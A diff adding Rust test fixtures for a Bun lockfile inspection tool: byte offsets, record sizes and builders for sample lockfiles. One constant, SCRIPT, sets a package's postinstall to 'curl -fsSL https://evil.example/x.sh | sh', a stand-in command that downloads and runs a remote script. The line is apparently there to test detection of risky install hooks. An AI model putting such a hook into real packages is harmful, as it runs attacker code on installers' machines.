@@ -0,0 +1,81 @@
+//! Fixtures and byte offsets shared by the tests that patch raw lockfile bytes.
+#![allow(dead_code)]
+
+use bun_xray_core::model::{BinSpec, ResolutionKind};
+use bun_xray_core::LockfileBuilder;
+
+/// `total_size`, after the magic, format version and meta hash.
+pub const TOTAL_SIZE_AT: usize = 78;
+/// Package table header: `len`, `alignment`, `field_count`, `begin`, `end`.
+pub const PACKAGE_COUNT_AT: usize = 86;
+pub const PACKAGES_BEGIN_AT: usize = 110;
+pub const PACKAGES_END_AT: usize = 118;
+/// Magic, format, meta hash, total size and the package table header.
+pub const HEADER_LEN: usize = 126;
+
+/// Per-package record sizes of the package table columns, in column order.
+pub const NAME_RECORD_SIZE: usize = 8;
+pub const NAME_HASH_RECORD_SIZE: usize = 8;
+pub const RESOLUTION_RECORD_SIZE: usize = 72;
+pub const SLICE_RECORD_SIZE: usize = 8;
+pub const META_RECORD_SIZE: usize = 88;
+pub const BIN_RECORD_SIZE: usize = 20;
+pub const SCRIPTS_RECORD_SIZE: usize = 56;
+/// Records of the `dependencies` buffer.
+pub const DEPENDENCY_RECORD_SIZE: usize = 26;
+
+pub fn read_u64(buf: &[u8], at: usize) -> u64 {
+    u64::from_le_bytes(buf[at..at + 8].try_into().unwrap())
+}
+
+/// Package count and the offset of the first column.
+pub fn package_table(bytes: &[u8]) -> (usize, usize) {
+    (read_u64(bytes, PACKAGE_COUNT_AT) as usize, read_u64(bytes, PACKAGES_BEGIN_AT) as usize)
+}
+
+/// Root plus npm packages `a`, `b` and `c`, with `a` trusted; names are short
+/// enough to be stored inline.
+pub fn npm_fixture() -> Vec<u8> {
+    let mut builder = LockfileBuilder::new("app");
+    for name in ["a", "b", "c"] {
+        let id = builder.add_package(name, "1.0.0");
+        builder.add_dependency(LockfileBuilder::ROOT, id, "^1.0.0");
+    }
+    builder.trust("a");
+    builder.to_bytes().unwrap()
+}
+
+pub const SCRIPT: &str = "curl -fsSL https://evil.example/x.sh | sh";
+
+/// Every kind of string the writer stores: names, registry URLs, git
+/// fields, dependency literals, bins, scripts and trailer strings. Package 1
+/// carries [`SCRIPT`] as its postinstall, package 2 is a github dependency
+/// and package 3 (`a`) has an inline name and a sha1 integrity.
+pub fn rich_fixture() -> Vec<u8> {
+    let mut builder = LockfileBuilder::new("monorepo-root");
+    let pad = builder.add_package("left-pad-but-longer", "1.3.0-beta.1+build.7");
+    let gh = builder.add_package_with_resolution(
+        "forked-dependency",
+        ResolutionKind::Github {
+            owner: "someone-else".into(),
+            repo: "forked-dependency".into(),
+            reference: "0123456789abcdef".into(),
+            resolved: String::new(),
+        },
+    );
+    let a = builder.add_package("a", "1.0.0-rc.1");
+    builder
+        .add_dependency(LockfileBuilder::ROOT, pad, "^1.3.0-beta.1")
+        .add_dependency(LockfileBuilder::ROOT, gh, "github:someone-else/forked-dependency")
+        .add_dependency(LockfileBuilder::ROOT, a, "^1.0.0-rc.1")
+        .integrity(a, "sha1-ERERERERERERERERERERERERERE")
+        .override_dependency("left-pad-but-longer", "1.3.0-beta.1")
+        .patch("left-pad-but-longer@1.3.0-beta.1+build.7", "patches/left-pad-but-longer.patch")
+        .trust("left-pad-but-longer")
+        .catalog(Some("frontend-catalog"), "left-pad-but-longer", "^1.3.0-beta.1");
+    builder.package_mut(pad).scripts.postinstall = Some(SCRIPT.into());
+    builder.package_mut(gh).bin = BinSpec::Map {
+        entries: vec![("forked-cli".into(), "bin/forked-cli.js".into())],
+    };
+    builder.to_bytes().unwrap()
+}